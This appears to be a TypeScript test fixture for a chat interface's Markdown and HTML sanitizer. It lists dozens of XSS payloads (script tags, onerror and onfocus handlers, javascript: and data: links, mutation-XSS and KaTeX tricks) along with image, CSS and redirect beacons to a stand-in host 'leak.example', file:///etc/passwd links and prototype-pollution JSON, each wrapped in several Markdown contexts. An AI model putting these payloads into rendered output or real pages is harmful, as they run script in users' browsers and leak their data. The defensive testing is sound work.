// What a model may be talked into writing. Each is tried in several places where Markdown treats text differently.

const TARGET = 'https://leak.example'
const RUN = 'window.ran=1'

const HTML = [
  `<script>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `<img src="${TARGET}/a.png">`,
  `<svg onload="${RUN}"></svg>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><image href="${TARGET}/b"/></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.ran=1</script>"></iframe>`,
  `<object data="${TARGET}/c"></object>`,
  `<embed src="${TARGET}/d">`,
  `<video src="${TARGET}/e" autoplay></video>`,
  `<audio src=x onerror="${RUN}">`,
  `<link rel=stylesheet href="${TARGET}/f.css">`,
  `<style>@import "${TARGET}/g.css"; * { background: url(${TARGET}/h) }</style>`,
  `<meta http-equiv=refresh content="0;url=${TARGET}/i">`,
  `<base href="${TARGET}/">`,
  `<form action="${TARGET}/j"><button autofocus onfocus="${RUN}">`,
  `<input autofocus onfocus="${RUN}">`,
  `<details open ontoggle="${RUN}"><summary>x</summary></details>`,
  `<a href="javascript:${RUN}" style="position:fixed;inset:0">x</a>`,
  `<div style="background:url(${TARGET}/k)">x</div>`,
  `<template><img src=x onerror="${RUN}"></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<br onclick="${RUN}"><sub onmouseover="${RUN}" style="position:fixed">x</sub>`,
  `<kbd/><img src=x onerror=${RUN}>`,
  `<x-y is="nanbeige-chat" onclick=1>`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<![CDATA[<img src=x onerror=${RUN}>]]>`,
  `<b title="\`<img src=x onerror=${RUN}>\`">`,
]

const MARKDOWN = [
  `![a](${TARGET}/l.png)`,
  `![a][r]\n\n[r]: ${TARGET}/m.png`,
  `[a](javascript:${RUN})`,
  `[a](JaVaScRiPt:${RUN})`,
  `[a](java&#x0A;script:${RUN})`,
  `[a](&#106;avascript:${RUN})`,
  `[a](<javascript:${RUN}>)`,
  `[a](data:text/html,<script>${RUN}</script>)`,
  `[a](vbscript:${RUN})`,
  `[a](file:///etc/passwd)`,
  `[a](/logout)`,
  `[a](#anywhere)`,
  `<javascript:${RUN}>`,
  `[a](${TARGET} "x\\" onmouseover=\\"${RUN}")`,
  `[a]: javascript:${RUN}\n\n[a]`,
  `[![a](${TARGET}/n)](javascript:${RUN})`,
  `\`\`\`"><img src=x onerror=${RUN}>\nx\n\`\`\``,
  `\`\`\`js onload=${RUN}\n</code></pre><img src=x onerror=${RUN}>\n\`\`\``,
  `\`<img src=x onerror=${RUN}>\``,
  `[^1]\n\n[^1]: <img src=x onerror=${RUN}> ![x](${TARGET}/o)`,
  `| <img src=x onerror=${RUN}> | ![x](${TARGET}/p) |\n|---|---|\n| <svg onload=${RUN}> | x |`,
  `- [x] <img src=x onerror=${RUN}>`,
  `$\\href{javascript:${RUN}}{x}$`,
  `$$\\includegraphics{${TARGET}/q.png}$$`,
  `$\\htmlStyle{background:url(${TARGET}/r)}{x}$`,
  `$\\htmlClass{a" onclick="${RUN}}{x}$ $\\htmlId{x}{y}$ $\\htmlData{a=b}{c}$`,
  `$\\url{javascript:${RUN}}$`,
  `$\\text{<img src=x onerror=${RUN}>}$`,
  `$\\unicode{<img src=x onerror=${RUN}>}$`,
  `$\\def\\x{\\x\\x}\\x$`,
  `\\(<img src=x onerror=${RUN}>\\)`,
  `{"a": "<img src=x onerror=${RUN}>", "__proto__": {"b": 1}, "<img src=x onerror=${RUN}>": [1]}`,
  `{"constructor": {"prototype": {"ran": 1}}, "url": "${TARGET}/s"}`,
]

const PLACES: ((snippet: string) => string)[] = [
  (snippet) => snippet,
  (snippet) => `text before\n\n> ${snippet.replaceAll('\n', '\n> ')}\n\ntext behind`,
  (snippet) => `1. item\n2. **bold ${snippet.replaceAll('\n', '\n   ')}`,
  (snippet) => `\`\`\`html\n${snippet}`,
]

/** 252 texts. */
export const HOSTILE = [...HTML, ...MARKDOWN].flatMap((snippet) => PLACES.map((place) => place(snippet)))
